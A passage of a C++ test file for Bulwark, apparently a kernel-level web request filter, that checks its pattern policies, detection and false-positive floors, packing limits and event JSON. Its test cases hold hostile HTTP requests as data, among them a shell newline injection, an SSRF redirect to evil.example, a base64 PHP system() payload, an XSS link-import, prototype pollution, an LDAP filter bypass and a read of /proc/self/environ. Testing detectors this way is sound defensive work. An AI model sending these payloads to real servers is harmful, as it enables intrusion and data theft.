          "cart=a%3A2%3A%7Bi%3A0%3Bs%3A3%3A%22abc%22%3Bi%3A1"
          "%3Bs%3A2%3A%22xy%22%3B%7D\r\n\r\n",
          // A search about batch files; a theme's Twig filters; a template literal.
          "GET /search?q=for+/f+loops+in+batch+files HTTP/1.1\r\n",
          "POST /admin/theme HTTP/1.1\r\n\r\ntpl=%7B%7B+products%7Cfilter(p+%3D%3E+p.price+%3E+10)"
          "%7Cmap('title')%7Csort%7Cjoin(',+')+%7D%7D",
          "POST /api/i18n HTTP/1.1\r\n\r\n{\"label\": \"`${'_get_started'}`\"}",
          // A documentation page about a folder named etc, under a self-reference.
          "GET /docs/etc/./README.md HTTP/1.1\r\n", "GET /wiki/var/./logbook HTTP/1.1\r\n",
          // A review that quotes and goes on after a double hyphen, as a dash.
          "POST /review HTTP/1.1\r\n\r\nmsg=Support+said+%22not+our+problem%22+--+avoid!!&stars=1",
          "POST /api/reviews HTTP/1.1\r\n\r\n{\"text\": \"they said \\\"soon\\\" -- 3 weeks "
          "ago\"}",
          // Mongo-style filters an API takes (CouchDB's _find, Parse's where): comparisons
          // against values, $or and $in.
          "POST /db/_find HTTP/1.1\r\n\r\n{\"selector\": {\"type\": \"order\", \"total\": "
          "{\"$gt\": 100}}, \"fields\": [\"_id\"]}",
          "POST /api/users HTTP/1.1\r\n\r\n{\"filter\": {\"$or\": [{\"age\": {\"$gte\": 18}}, "
          "{\"country\": {\"$in\": [\"DE\"]}}], \"since\": {\"$lt\": \"2024-01-01\"}}}",
          "GET /parse/classes/Score?where=%7B%22score%22%3A%7B%22%24gte%22%3A1000%7D%7D "
          "HTTP/1.1\r\n",
          // A web IDE's language server, an Electron app's crash report: files of a project.
          "POST /lsp HTTP/1.1\r\n\r\n{\"jsonrpc\": \"2.0\", \"method\": \"textDocument/didOpen\", "
          "\"params\": {\"textDocument\": {\"uri\": \"file:///home/dev/project/src/main.rs\"}}}",
          "POST /api/crash HTTP/1.1\r\n\r\n{\"frames\": [{\"filename\": "
          "\"file:///C:/Users/dev/AppData/Local/app/resources/app.asar/main.js\"}, {\"filename\": "
          "\"file:///usr/lib/node_modules/npm/lib/cli.js\"}, {\"filename\": "
          "\"file:///tmp/.mount_app/resources/index.js\"}]}",
          // Expressions of a language whose equality is '==' after a string and `and` (Flux
          // from InfluxDB's UI, a rules engine's Python-like condition): no SQL has '=='.
          "POST /api/v2/query?org=ops HTTP/1.1\r\n\r\n{\"query\": \"from(bucket: \\\"telegraf\\\")"
          " |> filter(fn: (r) => r._measurement == \\\"cpu\\\" and r._field == "
          "\\\"usage_system\\\")\"}",
          "POST /rules HTTP/1.1\r\n\r\ncond=country+%3D%3D+%27DE%27+and+cart.total+%3D%3D+0",
          // Archives a site serves or stores: a release, a package mirror's tarball, an
          // object store's upload, a user's photos.
          "GET /releases/download/v1.4.2/app-linux-amd64.tar.gz HTTP/1.1\r\n",
          "GET /npm/@types%2fnode/-/node-22.10.1.tgz HTTP/1.1\r\n",
          "PUT /backups/db-2026-12-06.sql.gz HTTP/1.1\r\n\r\n",
          "GET /remote.php/dav/files/alice/Holiday%20photos.zip HTTP/1.1\r\n",
          "GET /wp-content/plugins/download/theme-child.zip?ver=2 HTTP/1.1\r\n",
          // A Java shop's session in the path, a stylesheet's version after a semicolon.
          "GET /shop/cart;jsessionid=A1B2C3D4E5?item=7 HTTP/1.1\r\n",
          "GET /static/app.css;v=2 HTTP/1.1\r\n",
          // Headers whose names begin or end like a scanner's, and the names as values.
          "POST /api/documents HTTP/1.1\r\nX-Scanner-Model: fi-7160\r\nX-Document-Scanner: "
          "yes\r\n\r\n{\"pages\": 3}",
          "GET /blog/acunetix-product-review HTTP/1.1\r\nReferer: https://example.org/?q=x-scanner"
          "\r\nX-Note: acunetix-aspect\r\n\r\n"}) {
        INFO(ok);
        CHECK(set_hit(ok).empty());
    }
    CHECK(p.default_limits.requests == Rate{60, 60'000'000'000ull, 20});
    CHECK(p.suspicious_limits.requests == Rate{10, 60'000'000'000ull, 5});
    CHECK(p.trusted_unlimited);
    REQUIRE(p.rules.size() == 2);
    CHECK(p.rules[0].match == "GET /api/health");
    CHECK(p.rules[0].exempt);
}

TEST_CASE("policies/web-strict.json: compiles, and catches what web.json leaves on purpose",
          "[policy]") {
    auto p = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/web-strict.json");
    auto a = automaton::compile(all_patterns(p));
    REQUIRE(a.tables.size() <= BW_DFA_TABLES);
    auto web = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/web.json");
    auto w = automaton::compile(all_patterns(web));
    // Each request with the set web-strict.json reports it under and web.json's ("": passed).
    // web.json leaves the first ones on purpose (Mongo-style filters and project files are
    // ordinary traffic for some APIs); the others are web.json's rules that
    // web-strict.json has too (the ones it cannot fit are in policies/README.md): a template
    // polyglot and shell evasion in headers, base64 PHP, <link, prototype pollution, LDAP's
    // filter that is always true; and what neither drops.
    struct Case {
        const char *req, *strict, *web;
    };
    for (auto [req, strict, in_web] : std::initializer_list<Case>{
             {"GET /ping?host=127.0.0.1%0aid HTTP/1.1\r\n", "rce_strict", "shell_newline"},
             {"GET /login?next=https://evil.example/x HTTP/1.1\r\n", "ssrf_strict", ""},
             {"GET /wp-login.php HTTP/1.1\r\n", "probes_strict", ""},
             {"GET /p?bio=%3Cb%3Ehi%3C/b%3E HTTP/1.1\r\n", "html_strict", ""},
             {"POST /db/_find HTTP/1.1\r\n\r\n{\"selector\": {\"total\": {\"$gt\": 100}}}", "sqli",
              ""},
             {"POST /lsp HTTP/1.1\r\n\r\n{\"uri\": \"file:///home/dev/app/main.rs\"}",
              "file_access", ""},
             {"GET / HTTP/1.1\r\nX-Api-Version: ${{<%[%'\"}}%\\.\r\n\r\n", "java", "java"},
             {"GET / HTTP/1.1\r\nUser-Agent: x;/\?\?\?/\?\?t /\?\?\?/\?\?ss\?\?\r\n\r\n",
              "shell_evasion", "shell_evasion"},
             {"GET /p?page=data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= HTTP/1.1\r\n",
              "php", "php"},
             {"GET /p?q=%3Clink+rel%3Dimport+href%3D//evil.example/x%3E HTTP/1.1\r\n", "xss",
              "xss"},
             {"GET /p?__proto__[isAdmin]=1 HTTP/1.1\r\n", "java", "java"},
             {"GET /login?user=*)(%26) HTTP/1.1\r\n", "protocol", "protocol"},
             {"GET /f?file=/proc/./self/./environ HTTP/1.1\r\n", "file_access", "file_access"},
             {"GET /x?a=%24%7B'_GET'%7D%5B0%5D() HTTP/1.1\r\n", "php", "php"},
             // One that web-strict.json has no room for (policies/README.md).
             {"GET /run?c=for+/f+%25i+in+('id')+do+echo+%25i HTTP/1.1\r\n", "", "rce_cmd"},
             // Base64url session tokens whose '-' sets off a short word: PowerShell's iex,
             // a value ending in id before the cookie's ';'.
             {"GET / HTTP/1.1\r\nCookie: sid=_a_S1REi2MX3yLjerKfedEYE-IeX; t=ErV4-Id; x=1\r\n\r\n",
              "", ""}}) {
        INFO(req);
        CHECK(set_of(a, p, req) == strict);
        CHECK(set_of(w, web, req) == in_web);
    }
}

// Floors, not targets: each a little under what was measured when the rules were written
// (bench/RESULTS.md), so that a rule change that loses detection or adds false positives on
// the project's own corpus (tests/corpus/generate.py) fails here.
TEST_CASE("policies/web.json on the project's corpus: detection and false-positive floors",
          "[policy][corpus]") {
    auto p = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/web.json");
    auto a = automaton::compile(all_patterns(p));
    std::map<std::string, std::pair<size_t, size_t>> hits;  // class -> (matched, total)
    for (auto file : {"attacks.jsonl", "benign.jsonl"}) {
        std::ifstream in(std::string(BULWARK_CORPUS_DIR) + "/" + file);
        REQUIRE(in);
        std::string line;
        while (std::getline(in, line)) {
            auto j = nlohmann::json::parse(line);
            auto& h = hits[j.at("class").get<std::string>()];
            h.second++;
            if (!set_of(a, p, j.at("request").get<std::string>()).empty()) h.first++;
        }
    }
    const std::map<std::string, double> floor = {{"java", 0.97},     {"lfi", 0.97},  {"php", 0.98},
                                                 {"protocol", 0.78}, {"rce", 0.97},  {"rfi", 0.90},
                                                 {"scanner", 0.97},  {"sqli", 0.98}, {"xss", 0.98}};
    size_t attacks = 0;
    for (auto& [cls, min] : floor) {
        auto [got, total] = hits[cls];
        INFO(cls << ": " << got << " of " << total);
        REQUIRE(total > 0);
        CHECK(static_cast<double>(got) / static_cast<double>(total) >= min);
        attacks += total;
    }
    CHECK(attacks >= 400);
    auto [fp, benign] = hits["benign"];
    INFO("benign dropped: " << fp << " of " << benign);
    CHECK(benign >= 5000);
    CHECK(static_cast<double>(fp) <= 0.001 * static_cast<double>(benign));
}

// An operator trims the shipped policies to the application. All four were refused ("the
// patterns need more tables than the kernel scans"): three because the search over packings
// gave up after six builds the model misjudged, though they pack; web.json without `splitting`
// because its sets needed more states without it, until its stream wrappers left `php`.
TEST_CASE("the shipped policies less one set still compile", "[policy][pack][sweep]") {
    for (auto trim : {std::pair{"web.json", "protocol"},
                      {"web.json", "splitting"},
                      {"web-strict.json", "java"},
                      {"web-strict.json", "scanners"}}) {
        // Not a structured binding: clang 14 cannot capture one in the lambda below.
        const std::string file = trim.first, drop = trim.second;
        INFO(file << " without " << drop);
        auto p = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/" + file);
        auto n = p.pattern_sets.size();
        std::erase_if(p.pattern_sets, [&](const PatternSet& s) { return s.name == drop; });
        REQUIRE(p.pattern_sets.size() == n - 1);
        automaton::Automaton a;
        REQUIRE_NOTHROW(a = automaton::compile(all_patterns(p)));
        CHECK(a.tables.size() <= BW_DFA_TABLES);
        for (auto& t : a.tables)
            CHECK(automaton::used_entries(automaton::to_kernel(t)) <= BW_DFA_USABLE);
    }
}

TEST_CASE("policies/web.json has room for an operator's own set", "[policy][pack][sweep]") {
    auto p = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/web.json");
    PatternSet mine;
    mine.name = "mine";
    mine.scope = {};
    mine.scope.uri = true;
    mine.literals = {"/internal/debug", "/actuator/env", "x-debug-token"};
    p.pattern_sets.push_back(mine);
    automaton::Automaton a;
    REQUIRE_NOTHROW(a = automaton::compile(all_patterns(p)));
    CHECK(a.tables.size() <= BW_DFA_TABLES);
    CHECK(set_of(a, p, "GET /internal/debug HTTP/1.1\r\n") == "mine");
}

TEST_CASE("rule limits: at most 32 rules of at most 64 bytes", "[policy]") {
    CHECK_THROWS_WITH(parse(R"({"rules": [{"match": "GET /)" + std::string(70, 'a') +
                            R"(", "action": "exempt"}]})"),
                      Contains("/rules/0/match: match is longer than 64 bytes"));
    std::string rules = R"({"rules": [)";
    for (int i = 0; i <= BW_MAX_RULES; ++i)
        rules += std::string(i ? "," : "") + R"({"match": "GET /r)" + std::to_string(i) +
                 R"(", "action": "exempt"})";
    rules += "]}";
    CHECK_THROWS_WITH(parse(rules), Contains("/rules/32: more than 32 rules"));
    CHECK_THROWS_WITH(
        parse(
            R"({"rules": [{"match": "GET /a", "action": "exempt"}, {"match": "GET /a", "action": "exempt"}]})"),
        Contains("/rules/1: \"GET /a\" repeats rule 0"));
}

TEST_CASE("events: kernel records become the design's JSON objects", "[events]") {
    bw_event e{};
    e.time_ns = 1'500'000'000;  // 1.5 s after the monotonic epoch
    e.reason = BW_DROP_PATTERN;
    e.detail = 3;
    e.len = 120;
    e.sport = 40000;
    e.dport = 80;
    e.family = 4;
    e.proto = IPPROTO_TCP;
    e.cls = BW_CLASS_DEFAULT;
    uint8_t src[4] = {198, 18, 0, 9}, dst[4] = {198, 18, 0, 2};
    std::memcpy(e.src, src, 4);
    std::memcpy(e.dst, dst, 4);
    // Offset so that the event lands on 2026-11-23T22:00:00.250000Z.
    int64_t offset = 1'795'471'200'000'000'000 - 1'250'000'000;
    auto j = bulwark::guard::event_json(e, "web", "sqli:union select", offset);
    CHECK(j["time"] == "2026-11-23T22:00:00.250000Z");
    CHECK(j["type"] == "REQUEST_BLOCKED");
    CHECK(j["service"] == "web");
    CHECK(j["reason"] == "drop_pattern");
    CHECK(j["src"] == "198.18.0.9");
    CHECK(j["src_port"] == 40000);
    CHECK(j["dst"] == "198.18.0.2");
    CHECK(j["dst_port"] == 80);
    CHECK(j["proto"] == "tcp");
    CHECK(j["len"] == 120);
    CHECK(j["pattern"] == "sqli:union select");
    CHECK_FALSE(j.contains("rule"));

    e.reason = BW_DROP_RULE;
    j = bulwark::guard::event_json(e, "web", "POST /login", offset);
    CHECK(j["type"] == "RATE_LIMIT_EXCEEDED");
    CHECK(j["rule"] == "POST /login");
    CHECK_FALSE(j.contains("pattern"));
    e.reason = BW_DROP_RATE_CONNECTIONS;
    CHECK(bulwark::guard::event_json(e, "web", "", offset)["type"] == "RATE_LIMIT_EXCEEDED");
    e.reason = BW_DROP_DENY;
    CHECK(bulwark::guard::event_json(e, "web", "", offset)["type"] == "REQUEST_BLOCKED");
    e.cls = BW_CLASS_SUSPICIOUS;
    e.reason = BW_DROP_RATE_REQUESTS;
    CHECK(bulwark::guard::event_json(e, "web", "", offset)["type"] == "SUSPICIOUS_ACTIVITY");
    e.family = 6;
    uint8_t v6[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
    std::memcpy(e.src, v6, 16);
    e.proto = IPPROTO_UDP;
    j = bulwark::guard::event_json(e, "web", "", offset);
    CHECK(j["src"] == "2001:db8::1");
    CHECK(j["proto"] == "udp");
    CHECK_THAT(bulwark::guard::event_line(j),
               Catch::Matchers::Contains("SUSPICIOUS_ACTIVITY drop_rate_requests udp 2001:db8::1"));
}
